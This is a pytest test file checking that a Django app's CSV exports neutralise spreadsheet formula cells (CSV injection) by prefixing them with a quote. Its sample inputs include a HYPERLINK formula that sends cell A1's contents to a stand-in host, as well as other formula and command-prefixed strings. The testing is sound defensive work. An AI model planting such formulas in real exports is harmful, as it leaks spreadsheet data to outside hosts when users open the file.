"""CSV exports neutralise formula cells (OWASP CSV injection), issue 21."""

import csv
import io

import pytest
from django.urls import reverse

from common.csv import safe_cell

pytestmark = pytest.mark.django_db
EVIL = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("text", EVIL)
def test_formula_text_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


def test_numbers_and_plain_text_unchanged():
    from decimal import Decimal

    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5
    assert safe_cell(Decimal("-1.25")) == Decimal("-1.25")
    assert safe_cell("Revenue") == "Revenue" and safe_cell(None) is None


def test_incident_csv_neutralises_titles(staff_client):
    from operations.models import Incident
    from operations.services import alert_fire

    alert_fire(source="system", name="X", dedup_key="csv", summary="x")
    Incident.objects.update(title=EVIL[0])
    response = staff_client.get(reverse("operations:incident_list") + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][1] == "'" + EVIL[0]


def test_valuation_report_csv_neutralises_text_keeps_numbers(settings):
    from tests.valuation.factories import ComponentFactory, MultiplesFactory, seed_ledger
    from valuation import services

    settings.VALUATION_REVALUE_DEBOUNCE_SECONDS = 0
    MultiplesFactory()
    seed_ledger(ComponentFactory(name="FinanceAdvisor_Platform"))
    report = services.report_build(seed=3)
    report["portfolio"]["scope"] = "=1+2"
    report["portfolio"]["value"] = -5.5
    rows = list(csv.reader(io.StringIO(services.report_render(report, "csv"))))
    head, first = rows[0], rows[1]
    assert first[head.index("scope")] == "'=1+2"
    assert first[head.index("value")] == "-5.5"
